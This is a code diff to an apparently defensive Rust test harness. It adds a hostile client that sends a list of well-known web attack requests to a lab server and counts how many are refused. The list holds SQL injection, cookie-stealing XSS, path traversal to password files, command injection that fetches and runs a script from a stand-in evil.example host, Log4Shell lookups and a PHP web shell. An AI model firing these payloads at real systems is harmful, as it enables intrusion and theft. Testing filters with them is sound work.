@@ -1,8 +1,9 @@
-//! A crowd of hostile clients with real connections: some never finish their request, some ask too often.
+//! A crowd of hostile clients with real connections: some never finish their request, some ask too often, one sends
+//! attacks.
 //!
-//! Owns: their sockets and what became of them. Everything is bounded: [`SLOW_CONNECTIONS`], [`FLOOD_CONNECTIONS`] and
-//! [`REQUESTS_PER_SECOND`]. They live in the client's namespace with an address of their own, so that limits by source
-//! can tell them from the honest client.
+//! Owns: their sockets and what became of them. Everything is bounded: [`SLOW_CONNECTIONS`], [`FLOOD_CONNECTIONS`],
+//! [`REQUESTS_PER_SECOND`] and [`BETWEEN_ATTACKS`]. They live in the client's namespace with addresses of their own, so
+//! that limits by source can tell them from the honest client.
 
 use std::io::{Read as _, Write as _};
 use std::net::{IpAddr, SocketAddr, TcpStream};
@@ -31,6 +32,29 @@ const FLOOD_CONNECTIONS: usize = 8;
 const REQUESTS_PER_SECOND: u64 = 2_000;
 /// Time between two bytes of a slow connection.
 const SLOW_STEP: Duration = Duration::from_millis(500);
+/// Time between two attacks: slow enough for every limit.
+const BETWEEN_ATTACKS: Duration = Duration::from_millis(50);
+/// What is tried: targets, one of each well-known kind.
+const ATTACKS: &[&str] = &[
+    "/?id=1%27%20OR%20%271%27%3D%271%27--%20-",
+    "/?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
+    "/?q=1%3B%20DROP%20TABLE%20users%3B--",
+    "/?id=1%20AND%20SLEEP(5)",
+    "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+    "/?q=%3Csvg/onload%3Dfetch(%27//evil.example%27)%3E",
+    "/?file=../../../../etc/passwd",
+    "/?file=..%252f..%252f..%252fetc%252fshadow",
+    "/?page=php://filter/convert.base64-encode/resource=index.php",
+    "/?cmd=%3Bcat%20/etc/passwd",
+    "/?host=127.0.0.1%7Cwget%20http://evil.example/x.sh%20-O-%7Csh",
+    "/?x=%24(curl%20http://evil.example/%60whoami%60)",
+    "/?x=%24%7Bjndi:ldap://evil.example/a%7D",
+    "/?x=%24%7B%24%7Blower:j%7Dndi:ldap://evil.example/a%7D",
+    "/.git/config",
+    "/wp-config.php.bak",
+    "/?a=%3C?php%20system(%24_GET%5B%27c%27%5D);%20?%3E",
+];
 /// A hostile client does not wait long for anything.
 const SOCKET_TIMEOUT_MS: i64 = 2_000;
 
@@ -49,6 +73,14 @@ pub(super) struct Crowd {
     pub(super) served: AtomicU64,
     /// Those answered with anything else, or with the end of the connection.
     pub(super) refused: AtomicU64,
+    /// Whether there are rules, so that attacks are sent.
+    pub(super) has_rules: bool,
+    /// Connections of the client that sends attacks.
+    pub(super) attacks_opened: AtomicU64,
+    /// Attacks that were sent.
+    pub(super) attacks_sent: AtomicU64,
+    /// Those that were not served.
+    pub(super) attacks_refused: AtomicU64,
     /// Everybody goes home.
     pub(super) stop: AtomicBool,
 }
@@ -65,10 +97,12 @@ impl Crowd {
 /// When the address cannot be had; a connection that fails is an observation, not an error.
 pub(super) fn run(lab: &Lab, family: u8, crowd: &Crowd) -> Result<()> {
     let client = lab.topology.client();
-    let from = address(family);
+    let (from, attacker) = (address(family, 64), address(family, 65));
     let bits = if from.is_ipv4() { "24" } else { "64 nodad" };
-    tool::run(&format!("ip -n {client} addr add {from}/{bits} dev {}", CLIENT.far_if))
-        .context("an address for the hostile clients")?;
+    for from in [from, attacker] {
+        tool::run(&format!("ip -n {client} addr add {from}/{bits} dev {}", CLIENT.far_if))
+            .context("an address for the hostile clients")?;
+    }
     let to = SocketAddr::new(vip(family), 443);
     let config = tls::client_config(Alpn::Http1)?;
     netns::inside(&client, || {
@@ -77,6 +111,12 @@ pub(super) fn run(lab: &Lab, family: u8, crowd: &Crowd) -> Result<()> {
                 let _ = cpu::pin(0, cpu::defence_core());
                 dawdle(from, to, &config, crowd);
             });
+            if crowd.has_rules {
+                scope.spawn(|| {
+                    let _ = cpu::pin(0, cpu::defence_core());
+                    attack(attacker, to, &config, crowd);
+                });
+            }
             let _ = cpu::pin(0, cpu::defence_core());
             ask_too_much(from, to, &config, crowd);
         });
@@ -84,10 +124,10 @@ pub(super) fn run(lab: &Lab, family: u8, crowd: &Crowd) -> Result<()> {
     })
 }
 
-fn address(family: u8) -> IpAddr {
+fn address(family: u8, offset: u32) -> IpAddr {
     match CLIENT.far(family) {
-        IpAddr::V4(addr) => IpAddr::V4((u32::from(addr) + 64).into()),
-        IpAddr::V6(addr) => IpAddr::V6((u128::from(addr) + 64).into()),
+        IpAddr::V4(addr) => IpAddr::V4((u32::from(addr) + offset).into()),
+        IpAddr::V6(addr) => IpAddr::V6((u128::from(addr) + u128::from(offset)).into()),
     }
 }
 
@@ -152,6 +192,34 @@ fn ask_too_much(from: IpAddr, to: SocketAddr, config: &Arc<ClientConfig>, crowd:
                 }
             }
         }
+    }
+}
+
+/// Attacks in turn, each in a request of its own.
+fn attack(from: IpAddr, to: SocketAddr, config: &Arc<ClientConfig>, crowd: &Crowd) {
+    let mut slot = None;
+    for target in ATTACKS.iter().cycle() {
+        if crowd.is_over() {
+            return;
+        }
+        if slot.is_none() {
+            slot = open(from, to, config).ok();
+            crowd.attacks_opened.fetch_add(u64::from(slot.is_some()), Ordering::Relaxed);
+        }
+        let request = format!(
+            "GET {target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"
+        );
+        if let Some(connection) = &mut slot {
+            crowd.attacks_sent.fetch_add(1, Ordering::Relaxed);
+            let served = ask(connection, &request);
+            if served != Some(true) {
+                crowd.attacks_refused.fetch_add(1, Ordering::Relaxed);
+            }
+            if served.is_none() {
+                slot = None;
+            }
+        }
+        std::thread::sleep(BETWEEN_ATTACKS);
     }
 }
 
